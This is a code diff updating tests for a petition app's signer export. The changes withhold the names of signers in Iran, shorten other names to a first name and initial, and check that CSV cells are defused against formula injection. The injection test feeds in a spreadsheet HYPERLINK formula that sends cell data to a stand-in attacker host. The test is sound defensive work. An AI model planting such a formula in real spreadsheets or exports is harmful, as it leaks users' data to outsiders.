@@ -71,7 +71,7 @@ def demo_petition():
     petition = make_petition(slug="demo", **data)
     for n in range(12):
         make_signature(petition, name="سارا کریمی", country="IR", locality="تهران")
-        make_signature(petition, name=f"Jürgen Müller {n}", country="DE", locality="Berlin")
+        make_signature(petition, name=f"Jürgen Müller-{n}", country="DE", locality="Berlin")
     make_signature(petition, name="Mehdi Rahimi", country="IR", locality="Shiraz")
     make_signature(petition, name="Anna Lind", country="IS", locality="Reykjavik")
     make_signature(petition, name="Hidden Person", country="DE", show_name=False)
@@ -138,17 +138,20 @@ def test_pdf_gives_both_calendars(made, demo_petition):
     assert re.search(f"[۰-۹]{{1,2}} ?({months}) ?۱۴[۰-۹]{{2}}", text)
 
 
-def test_pdf_names_only_those_shown_and_signers_in_iran_by_first_name_and_initial(made):
+def test_pdf_names_signers_by_first_name_and_initial_and_none_under_iran(made):
     pack, text = made
     folded = unicodedata.normalize("NFKC", text)
-    assert "Jürgen Müller 3" in text
-    assert "Mehdi R." in text and "Rahimi" not in text
+    names = text.split("for their safety.")[1]
+    assert "Jürgen M." in names and "Müller" not in text
+    assert "Anna L." in names and "Lind" not in text
     assert "Hidden Person" not in text and "Not Yet" not in text
-    # The Persian names are drawn as joined letter forms; read back, they are the short name.
-    assert "سارا ک." in folded or ".ک اراس" in folded
-    assert "کریمی" not in folded
+    # Signers in Iran are counted (Iran 13 on the front pages), never named: the pack may be
+    # handed to the very authorities they risk being named to.
+    assert "Mehdi" not in text and "Rahimi" not in text
+    assert "سارا" not in folded and "اراس" not in folded and "کریمی" not in folded
+    assert "Iran" not in names
     assert "تهران" not in folded and "Berlin" not in text and "Shiraz" not in text
-    assert pack.names_total == pack.names_done == 26
+    assert pack.names_total == pack.names_done == 13
 
 
 def test_csv_has_the_same_content(made):
@@ -163,9 +166,11 @@ def test_csv_has_the_same_content(made):
     assert ("IR", "Iran", "13") in by_section["country"]
     assert ("other", "Other countries", "1") in by_section["country"]
     names = [value for _code, _country, value in by_section["name"]]
-    assert len(names) == 26
-    assert "سارا ک." in names and "Mehdi R." in names and "Anna Lind" in names
-    assert not any("کریمی" in name or "Rahimi" in name for name in names)
+    assert len(names) == 13
+    assert "Jürgen M." in names and "Anna L." in names
+    assert not any("Müller" in name or "Lind" in name for name in names)
+    assert not any(code == "IR" for code, _country, _value in by_section["name"])
+    assert not any("سارا" in name or "Mehdi" in name for name in names)
     assert "Hidden Person" not in names
     assert by_section["letter_fa"][0][2].startswith("آقای ایلان ماسک عزیز")
 
@@ -199,7 +204,7 @@ def test_admin_action_makes_the_pack_off_the_request_path_with_progress(
     assert pack.status == DeliveryPack.Status.DONE and pack.percent == 100
     listing = client.get(reverse("admin:petitions_deliverypack_changelist")).content.decode()
     assert '<progress max="100" value="100">' in listing
-    assert "26 of 26 names" in listing
+    assert "13 of 13 names" in listing
 
     download = reverse("admin:petitions_deliverypack_download", args=[pack.pk, "pdf"])
     response = client.get(download)
@@ -256,3 +261,27 @@ def test_pack_list_reloads_itself_while_a_pack_is_being_made(client, demo_petiti
     assert '<progress max="100" value="0">' in listing
     build(pack)
     assert 'http-equiv="refresh"' not in client.get(url).content.decode()
+
+
+def test_pack_csv_defuses_formulas_in_every_cell(pack_dir):
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"x")'
+    petition = make_petition(title_en=formula, letter_en="+SUM(1,2)", opened_at=timezone.now())
+    make_signature(petition, name="@Sara Karimi", country="DE")
+    pack = build(DeliveryPack.objects.create(petition=petition))
+    with Path(pack.csv.path).open(encoding="utf-8-sig", newline="") as f:
+        cells = [cell for row in csv.reader(f) for cell in row]
+    assert "'" + formula in cells
+    assert "'+SUM(1,2)" in cells
+    assert not [cell for cell in cells if cell[:1] in set("=+-@\t\r")]
+
+
+def test_a_policy_change_after_signing_never_names_more_in_the_pack(pack_dir):
+    petition = make_petition(signer_list="none", opened_at=timezone.now())
+    make_signature(petition, name="Mina Rad", country="DE", show_name=True)
+    petition.signer_list = "full"
+    petition.save()
+    make_signature(petition, name="Tom Smith", country="DE", show_name=True)
+    pack = build(DeliveryPack.objects.create(petition=petition))
+    with Path(pack.csv.path).open(encoding="utf-8-sig", newline="") as f:
+        names = [row[3] for row in csv.reader(f) if row[0] == "name"]
+    assert names == ["Tom S."]
